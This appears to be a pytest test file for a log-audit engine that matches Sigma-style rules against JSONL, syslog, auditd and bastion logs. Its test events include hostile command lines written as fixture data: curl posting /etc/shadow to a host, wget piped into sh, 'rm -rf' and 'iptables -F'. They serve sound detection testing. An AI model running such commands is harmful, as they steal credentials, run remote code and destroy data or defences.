"""Scanning files: line numbers, malformed lines, the other log formats, what a match holds."""

from __future__ import annotations

import io
import subprocess
import sys
from pathlib import Path
from typing import Any

import orjson
import pytest

from garrison.logaudit.engine import runner
from garrison.logaudit.engine.compiler import compile_rules
from garrison.logaudit.engine.inputs import InputFormat
from garrison.logaudit.engine.rules import load_rules
from garrison.logaudit.engine.runner import EventFile, Match, count_lines, scan

from .engine_helpers import compiled, process, process_rule, run, write_jsonl

GENERATOR = Path("/work/shared/benchmarks/gen_linux_events.py")
SAMPLES = Path("/work/shared/samples/sigma/rules/linux")
CURL = process_rule("    sel:\n        Image|endswith: /curl\n    condition: sel", title="Curl")


def test_malformed_lines_are_counted_with_numbers_and_good_lines_still_match(tmp_path: Path) -> None:
    events: list[dict[str, Any] | str] = [
        process(Image="/usr/bin/curl"),
        '{"EventID": 1, "Image": "/usr/bin/curl"',  # cut short
        "not json at all",
        process(Image="/usr/bin/curl"),
        "[1, 2]",  # JSON, but not an event
        process(Image="/usr/bin/ls"),
    ]
    matches, result = run(CURL, events, tmp_path)
    assert [match.line for match in matches] == [1, 4]
    (report,) = result.inputs
    assert (report.line_count, report.event_count, report.malformed_count) == (6, 3, 3)
    assert [item.line for item in report.malformed] == [2, 3, 5]
    assert report.malformed[0].reason.startswith("invalid JSON")
    assert report.malformed[2].reason == "a JSON list, not an object"
    assert result.malformed == 3
    assert result.events == 3


def test_blank_lines_do_not_shift_line_numbers(tmp_path: Path) -> None:
    events: list[dict[str, Any] | str] = [
        "",
        process(Image="/usr/bin/curl"),
        "   ",
        "garbage",
        process(Image="/bin/curl"),
    ]
    matches, result = run(CURL, events, tmp_path)
    assert [match.line for match in matches] == [2, 5]
    assert [item.line for item in result.inputs[0].malformed] == [4]


def test_a_match_holds_the_rule_the_place_and_the_normalised_event(tmp_path: Path) -> None:
    event = process(Image="/usr/bin/curl", Computer="db1.dc1", User="dbadmin", UtcTime="2026-11-02T01:02:03Z")
    (match,), _ = run(CURL, [event], tmp_path)
    assert match == Match(
        rule_id="0f0e0d0c-0000-4000-8000-000000000001",
        title="Curl",
        level="high",
        author="Garrison tests",
        file_label="events",
        line=1,
        time="2026-11-02T01:02:03Z",
        host="db1.dc1",
        user="dbadmin",
        event=event,
    )


def test_auditd_events_take_the_login_id_unless_it_is_unset(tmp_path: Path) -> None:
    rule = """
title: Shadow
id: 0f0e0d0c-0000-4000-8000-0000000000d1
logsource:
    product: linux
    service: auditd
detection:
    sel:
        name: /etc/shadow
    condition: sel
"""
    events = [
        {
            "type": "PATH",
            "name": "/etc/shadow",
            "auid": "1000",
            "uid": "0",
            "host": "h1",
            "timestamp": "2026-11-02T00:00:00Z",
        },
        {
            "type": "PATH",
            "name": "/etc/shadow",
            "auid": "4294967295",
            "uid": "0",
            "host": "h2",
            "UtcTime": "2026-11-02T00:00:01Z",
        },
    ]
    first, second = run(rule, events, tmp_path)[0]
    assert (first.time, first.host, first.user) == ("2026-11-02T00:00:00Z", "h1", "1000")
    assert (second.time, second.host, second.user) == ("2026-11-02T00:00:01Z", "h2", "0")


def test_matches_are_written_one_json_object_a_line(tmp_path: Path) -> None:
    path = write_jsonl(tmp_path / "e.jsonl", [process(Image="/usr/bin/curl")])
    out = io.BytesIO()
    result = scan(compiled(CURL), [EventFile(str(path), InputFormat.JSONL)], matches_out=out)
    (line,) = out.getvalue().splitlines()
    written = orjson.loads(line)
    assert set(written) == {
        "rule_id",
        "title",
        "level",
        "author",
        "file",
        "line",
        "time",
        "host",
        "user",
        "event",
    }
    assert written["file"] == str(path)
    assert written["line"] == 1
    assert result.counts == {"0f0e0d0c-0000-4000-8000-000000000001": 1}
    assert result.matches == 1


def test_syslog_auditd_and_bastion_files_are_read_through_normalisation(tmp_path: Path) -> None:
    rules = compiled(
        """
title: Removal
id: 0f0e0d0c-0000-4000-8000-0000000000e1
logsource:
    product: linux
detection:
    keywords:
        - 'rm -rf'
    condition: keywords
---
title: Flush
id: 0f0e0d0c-0000-4000-8000-0000000000e2
logsource:
    product: linux
    category: process_creation
detection:
    sel:
        CommandLine|contains: 'iptables -F'
    condition: sel
---
title: Exec of passwd
id: 0f0e0d0c-0000-4000-8000-0000000000e3
logsource:
    product: linux
    service: auditd
detection:
    sel:
        type: SYSCALL
        exe|endswith: /passwd
    condition: sel
"""
    )
    syslog = tmp_path / "messages.log"
    syslog.write_text(
        "<13>1 2026-11-02T00:00:00Z web1 bash 12 - - ops ran rm -rf /tmp/cache\n"
        "this is no syslog line\n"
        "<13>Nov  2 00:00:01 web1 sshd[1]: Accepted publickey for ops\n"
    )
    audit = tmp_path / "audit.log"
    audit.write_text(
        "type=SYSCALL msg=audit(1793577600.000:7): arch=c000003e syscall=59 success=yes exit=0 "
        "auid=1000 uid=0 "
        'comm="passwd" exe="/usr/bin/passwd" key="x"\n'
        'type=EXECVE msg=audit(1793577600.000:7): argc=1 a0="passwd"\n'
    )
    bastion = tmp_path / "bastion.csv"
    bastion.write_text(
        "user,asset,account,command,time,session\nops,db1,root,iptables -F,2026-11-02T00:00:00Z,s1\n"
    )
    matches: list[Match] = []
    result = scan(
        rules,
        [
            EventFile(str(syslog), InputFormat.SYSLOG, "syslog"),
            EventFile(str(audit), InputFormat.AUDITD, "audit"),
            EventFile(str(bastion), InputFormat.BASTION, "bastion"),
        ],
        on_match=matches.append,
        workdir=str(tmp_path),
    )
    found = {(match.file_label, match.line, match.title) for match in matches}
    assert found == {("syslog", 1, "Removal"), ("audit", 1, "Exec of passwd"), ("bastion", 2, "Flush")}
    bastion_match = next(match for match in matches if match.file_label == "bastion")
    assert (bastion_match.host, bastion_match.user) == ("db1", "ops")
    assert "_line" not in bastion_match.event
    assert [report.malformed_count for report in result.inputs] == [1, 0, 0]
    assert result.inputs[0].malformed[0].line == 2


def test_the_fast_path_and_the_normalised_path_agree_on_generated_events(tmp_path: Path) -> None:
    data = tmp_path / "events.jsonl"
    subprocess.run([sys.executable, str(GENERATOR), "20000", str(data), "7"], check=True)  # noqa: S603 - our argv
    shifted = tmp_path / "shifted.jsonl"  # a blank first line sends the file through normalisation
    shifted.write_bytes(b"\n" + data.read_bytes())
    rules = compile_rules(load_rules([SAMPLES]))
    fast: list[Match] = []
    slow: list[Match] = []
    scan(rules, [EventFile(str(data), InputFormat.JSONL)], on_match=fast.append)
    scan(rules, [EventFile(str(shifted), InputFormat.JSONL)], on_match=slow.append)
    assert len(fast) > 100
    assert {(m.rule_id, m.line + 1) for m in fast} == {(m.rule_id, m.line) for m in slow}
    assert [m.event for m in fast[:50]] == [m.event for m in slow[:50]]


def test_a_small_memory_limit_still_scans(tmp_path: Path) -> None:
    events = [process(Image="/usr/bin/curl", CommandLine="x" * 500) for _ in range(3000)]
    path = write_jsonl(tmp_path / "e.jsonl", events)
    result = scan(
        compiled(CURL), [EventFile(str(path), InputFormat.JSONL)], memory_limit_mb=64, workdir=str(tmp_path)
    )
    assert result.matches == 3000
    assert result.events == 3000


def test_count_lines_counts_a_last_line_without_newline(tmp_path: Path) -> None:
    path = tmp_path / "x"
    path.write_bytes(b"a\nb\nc")
    assert count_lines(str(path)) == 3
    path.write_bytes(b"a\nb\n")
    assert count_lines(str(path)) == 2
    path.write_bytes(b"")
    assert count_lines(str(path)) == 0


def test_too_many_matches_to_hold_are_numbered_by_duckdb_instead(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(runner, "HELD_MATCHES", 1)
    events: list[dict[str, Any] | str] = [
        process(Image="/bin/curl"),
        "{bad",
        process(Image="/usr/bin/curl"),
    ] * 2
    matches, result = run(CURL, events, tmp_path)
    assert [match.line for match in matches] == [1, 3, 4, 6]
    assert [item.line for item in result.inputs[0].malformed] == [2, 5]
    assert result.inputs[0].malformed[0].reason.startswith("invalid JSON")


def test_equal_lines_each_get_their_own_number(tmp_path: Path) -> None:
    same = process(Image="/bin/curl")
    matches, _ = run(CURL, [same, process(Image="/bin/ls"), same, same], tmp_path)
    assert [match.line for match in matches] == [1, 3, 4]


DATA = Path(__file__).resolve().parents[1] / "data"
PACK = Path(__file__).resolve().parents[3] / "src" / "garrison" / "logaudit" / "rules"


def _mixed_files(tmp_path: Path) -> list[EventFile]:
    """JSON lines (two read directly, one array, one with an event split over lines), syslog,
    auditd and bastion files, each with a malformed line."""
    sources = [
        ("events.jsonl", InputFormat.JSONL, b'{"EventID": 1, "Image": "/usr/bin/curl"\n'),
        ("syslog_rfc3164.log", InputFormat.SYSLOG, b"<13>not a syslog line at all\n"),
        ("auditd.log", InputFormat.AUDITD, b"type=SYSCALL this is no audit record\n"),
        ("syslog_rfc5424.log", InputFormat.SYSLOG, b"<999>1 broken\n"),
        ("bastion.csv", InputFormat.BASTION, b""),
    ]
    files = []
    for name, fmt, bad in sources:
        path = tmp_path / name
        path.write_bytes((DATA / name).read_bytes() + bad)
        files.append(EventFile(str(path), fmt, name))
    second = write_jsonl(
        tmp_path / "second.jsonl",
        [
            process(Image="/usr/bin/curl", CommandLine="curl -d @/etc/shadow http://x"),
            "[1]",
            process(Image="/bin/ls"),
        ],
    )
    array = tmp_path / "array.jsonl"
    array.write_bytes(b'[{"EventID": 1, "Image": "/usr/bin/wget", "CommandLine": "wget http://x | sh"}]\n')
    files += [
        EventFile(str(second), InputFormat.JSONL, "second"),
        EventFile(str(array), InputFormat.JSONL, "array"),
    ]
    return files


@pytest.fixture(scope="module")
def all_rules() -> Any:
    return compile_rules(load_rules([SAMPLES, PACK]))


def _scanned(rules: Any, files: list[EventFile], tmp_path: Path) -> tuple[list[dict[str, Any]], list[Any]]:
    matches: list[Match] = []
    result = scan(rules, files, on_match=matches.append, workdir=str(tmp_path))
    return [match.as_json() for match in matches], result.inputs


def test_a_multi_file_scan_finds_what_each_file_alone_gives(all_rules: Any, tmp_path: Path) -> None:
    files = _mixed_files(tmp_path)
    together, reports = _scanned(all_rules, files, tmp_path)
    alone: list[dict[str, Any]] = []
    alone_reports: list[Any] = []
    for source in files:
        found, (report,) = _scanned(all_rules, [source], tmp_path)
        alone += found
        alone_reports.append(report)
    assert len(together) > 10
    assert {match["file"] for match in together} >= {
        "events.jsonl",
        "second",
        "auditd.log",
        "syslog_rfc3164.log",
    }
    assert together == alone
    assert reports == alone_reports
    assert all(report.malformed_count >= 1 for report in reports[:6])
    assert [item.line for item in reports[5].malformed] == [2]


def test_a_multi_file_scan_plans_each_kind_of_file_once(
    all_rules: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    planned: list[Any] = []
    real = runner.build_queries

    def counting(*args: Any, **options: Any) -> Any:
        planned.append(args[1])
        return real(*args, **options)

    monkeypatch.setattr(runner, "build_queries", counting)
    files = _mixed_files(tmp_path)
    _scanned(all_rules, files, tmp_path)
    assert len(planned) == 2  # the JSON lines DuckDB reads, and the normalised files
    assert sorted(len(paths) for paths in planned) == [2, 5]


def test_a_multi_file_scan_with_too_many_matches_to_hold_still_agrees(
    all_rules: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def summary(scanned: tuple[list[dict[str, Any]], list[Any]]) -> tuple[Any, ...]:
        matches, reports = scanned
        counted = [
            (r.line_count, r.event_count, r.malformed_count, [item.line for item in r.malformed])
            for r in reports
        ]
        return matches, counted

    files = _mixed_files(tmp_path)
    expected = summary(_scanned(all_rules, files, tmp_path))
    monkeypatch.setattr(runner, "HELD_MATCHES", 0)  # each JSON-lines file falls back to a scan of its own
    assert summary(_scanned(all_rules, files, tmp_path)) == expected
    assert len(expected[0]) > 10
